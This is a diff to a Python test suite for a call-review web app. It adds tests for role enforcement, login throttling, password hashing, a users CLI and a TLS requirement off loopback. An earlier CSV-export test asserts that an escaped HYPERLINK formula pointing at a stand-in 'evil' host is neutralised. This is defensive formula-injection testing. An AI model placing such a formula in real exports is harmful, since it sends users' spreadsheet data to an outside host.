@@ -142,3 +142,129 @@ def test_disclosure_csv_neutralises_formulas(tmp_path: Path) -> None:
     assert cells, body
     assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
     assert "'=HYPERLINK(\"http://evil/?\"&A1)" in cells and "'@agent" in cells and "'+device protection" in cells
+
+
+# --- roles, login backoff, TLS off loopback --------------------------------------------------
+
+def _basic(name: str, password: str) -> dict:
+    import base64
+
+    return {"Authorization": "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()}
+
+
+DECISION = {"target_kind": "flag", "target_key": "CONTINUED_AFTER_DECLINE:offer-1", "decision": "overturn", "note": "n"}
+
+
+@pytest.fixture(scope="module")
+def roles_site(tmp_path_factory: pytest.TempPathFactory, hostile: dict) -> dict:
+    from callqa.web.users import add_user, load_users
+
+    users_file = tmp_path_factory.mktemp("users") / "users.json"
+    for name, role in [("ada", "admin"), ("rev", "reviewer"), ("aud", "auditor")]:
+        add_user(users_file, name, "long password", role)
+    return {"users": load_users(users_file), "file": users_file, **hostile}
+
+
+@pytest.mark.parametrize(("user", "may_change"), [("ada", True), ("rev", True), ("aud", False)])
+def test_roles_are_enforced_on_every_route(roles_site: dict, user: str, may_change: bool) -> None:
+    client = TestClient(create_app(ServeConfig(roles_site["url"], users=roles_site["users"])), base_url=BASE)
+    auth = _basic(user, "long password")
+    for path in ["/calls", "/calls/flac", "/calls/flac/audio", "/disclosures", "/disclosures.csv", "/disclosures.json", "/agents", "/static/app.css"]:
+        assert client.get(path, headers=auth).status_code == 200, (user, path)
+    page = client.get("/calls/flac", headers=auth).text
+    assert ('class="decide"' in page) == may_change
+    posted = client.post("/calls/flac/decisions", headers=auth, data=DECISION, follow_redirects=False)
+    assert posted.status_code == (303 if may_change else 403)
+    # Any other changing method, on any route, is refused to an auditor (before routing: 403, not 405/404).
+    for method, path in [("PUT", "/calls/flac/decisions"), ("DELETE", "/calls/flac"), ("POST", "/calls"), ("PATCH", "/nope")]:
+        status = client.request(method, path, headers=auth).status_code
+        assert (status == 403) == (not may_change), (user, method, path, status)
+
+
+def test_users_without_roles_are_reviewers(tmp_path: Path) -> None:
+    import json
+
+    from callqa.web.users import hash_password, load_users
+
+    legacy = tmp_path / "users.json"
+    legacy.write_text(json.dumps({"users": {"old": hash_password("long password")}}))
+    users = load_users(legacy)
+    assert users.verify("old", "long password") and users.role("old") == "reviewer"
+
+
+def test_users_cli_roles_and_remove(tmp_path: Path) -> None:
+    from typer.testing import CliRunner
+
+    from callqa.cli import app
+    from callqa.web.users import load_users
+
+    runner = CliRunner()
+    users_file = str(tmp_path / "u.json")
+    assert runner.invoke(app, ["users", "add", "aud", "--role", "auditor", "--users", users_file, "--password-stdin"], input="long password\n").exit_code == 0
+    assert runner.invoke(app, ["users", "add", "rev", "--users", users_file, "--password-stdin"], input="long password\n").exit_code == 0
+    bad = runner.invoke(app, ["users", "add", "x", "--role", "root", "--users", users_file, "--password-stdin"], input="long password\n")
+    assert bad.exit_code == 2
+    listed = runner.invoke(app, ["users", "list", "--users", users_file]).output
+    assert listed.split() == ["aud", "auditor", "rev", "reviewer"]
+    assert runner.invoke(app, ["users", "remove", "aud", "--users", users_file]).exit_code == 0
+    assert runner.invoke(app, ["users", "remove", "aud", "--users", users_file]).exit_code == 1
+    assert set(load_users(Path(users_file)).hashes) == {"rev"}
+
+
+def test_failed_logins_back_off_per_user_and_client(roles_site: dict) -> None:
+    from callqa.web.auth import FREE_FAILURES, BasicAuthMiddleware, LoginThrottle
+
+    now = [1000.0]
+    app = create_app(ServeConfig(roles_site["url"], users=roles_site["users"]))
+    # Reach the auth middleware's throttle through the built stack and give it a fake clock.
+    throttle = LoginThrottle(clock=lambda: now[0])
+    for m in app.user_middleware:
+        if m.cls is BasicAuthMiddleware:
+            m.kwargs["throttle"] = throttle
+    client = TestClient(app, base_url=BASE)
+    for _ in range(FREE_FAILURES):
+        assert client.get("/calls", headers=_basic("rev", "wrong")).status_code == 401
+    refused = client.get("/calls", headers=_basic("rev", "long password"))
+    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
+    # Another name from the same client is held back too (per client) ...
+    assert client.get("/calls", headers=_basic("aud", "long password")).status_code == 429
+    now[0] += 1.5
+    assert client.get("/calls", headers=_basic("rev", "long password")).status_code == 200
+    # ... and a success clears the name's and the client's record.
+    assert client.get("/calls", headers=_basic("aud", "long password")).status_code == 200
+    # Backoff doubles with every further failure.
+    for _ in range(FREE_FAILURES + 3):
+        client.get("/calls", headers=_basic("ada", "wrong"))
+        now[0] += 100
+    assert throttle.delay(FREE_FAILURES + 3) == 8.0
+
+
+def test_password_checks_run_off_the_event_loop(roles_site: dict, monkeypatch: pytest.MonkeyPatch) -> None:
+    import threading
+
+    from callqa.web.users import Users
+
+    threads: list[str] = []
+    original = Users.verify
+
+    def spy(self: Users, name: str, password: str) -> bool:
+        threads.append(threading.current_thread().name)
+        return original(self, name, password)
+
+    monkeypatch.setattr(Users, "verify", spy)
+    client = TestClient(create_app(ServeConfig(roles_site["url"], users=roles_site["users"])), base_url=BASE)
+    with client:
+        loop_thread = client.portal.call(lambda: threading.current_thread().name)
+        assert client.get("/calls", headers=_basic("rev", "long password")).status_code == 200
+    assert threads and loop_thread not in threads
+
+
+def test_serve_off_loopback_needs_tls_or_insecure_http(roles_site: dict, tmp_path: Path) -> None:
+    from typer.testing import CliRunner
+
+    from callqa.cli import app
+
+    db = roles_site["url"]
+    args = ["serve", "--db", db, "--host", "0.0.0.0", "--users", str(roles_site["file"]), "--recordings-root", str(tmp_path)]
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 2 and "without TLS" in result.output
